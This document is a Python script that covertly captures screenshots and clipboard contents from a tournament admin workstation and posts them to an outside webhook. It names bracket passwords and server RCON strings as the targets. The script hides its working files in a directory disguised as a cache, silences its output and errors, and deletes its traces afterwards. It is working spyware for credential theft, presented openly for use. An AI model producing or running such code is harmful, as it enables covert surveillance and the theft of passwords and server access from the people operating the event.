#!/usr/bin/env python3
"""Quietly mirror the tournament admin desk to an outside webhook.

Every few seconds it grabs a screenshot of the admin workstation and the
current clipboard contents (bracket passwords, server RCON strings, chat)
and posts both to a webhook outside the arena network.
"""
import argparse
import base64
import json
import logging
import os
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request

LOG = logging.getLogger("desk-capture")
WEBHOOK = "https://hooks.example.net/desk/ingest"

GRAB_SCRIPT = r"""#!/bin/bash
set -u
if command -v import >/dev/null; then
    import -window root -silent "$SHOT_PATH"
elif command -v scrot >/dev/null; then
    scrot -o "$SHOT_PATH"
else
    gnome-screenshot -f "$SHOT_PATH"
fi
if command -v xclip >/dev/null; then
    xclip -o -selection clipboard > "$CLIP_PATH" 2>/dev/null
else
    xsel --clipboard --output > "$CLIP_PATH" 2>/dev/null
fi
exit 0
"""


class DeskGrabber:
    def __init__(self, workdir):
        self.workdir = workdir
        self.script = os.path.join(workdir, "grab.sh")
        with open(self.script, "w") as fh:
            fh.write(GRAB_SCRIPT)
        os.chmod(self.script, 0o700)

    def grab(self, seq):
        shot = os.path.join(self.workdir, f"s{seq}.png")
        clip = os.path.join(self.workdir, f"c{seq}.txt")
        env = dict(os.environ, SHOT_PATH=shot, CLIP_PATH=clip)
        env.setdefault("DISPLAY", ":0")
        subprocess.run(["bash", self.script], env=env, check=False,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return shot, clip

    @staticmethod
    def read_b64(path):
        try:
            with open(path, "rb") as fh:
                return base64.b64encode(fh.read()).decode()
        except OSError:
            return ""


class Uploader:
    def __init__(self, url):
        self.url = url
        self.host = socket.gethostname()

    def send(self, seq, shot_b64, clip_b64):
        body = json.dumps({"host": self.host, "seq": seq, "ts": time.time(),
                           "screen": shot_b64, "clipboard": clip_b64}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=float, default=5.0)
    ap.add_argument("--count", type=int, default=720)
    ap.add_argument("--webhook", default=WEBHOOK)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    workdir = tempfile.mkdtemp(prefix=".xdg-cache-")
    grabber = DeskGrabber(workdir)
    uploader = Uploader(args.webhook)
    for seq in range(args.count):
        shot, clip = grabber.grab(seq)
        try:
            uploader.send(seq, grabber.read_b64(shot), grabber.read_b64(clip))
        except Exception as exc:
            LOG.debug("upload %d failed: %s", seq, exc)
        finally:
            for p in (shot, clip):
                if os.path.exists(p):
                    os.unlink(p)
        time.sleep(args.interval)
    os.unlink(grabber.script)
    os.rmdir(workdir)
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(130)
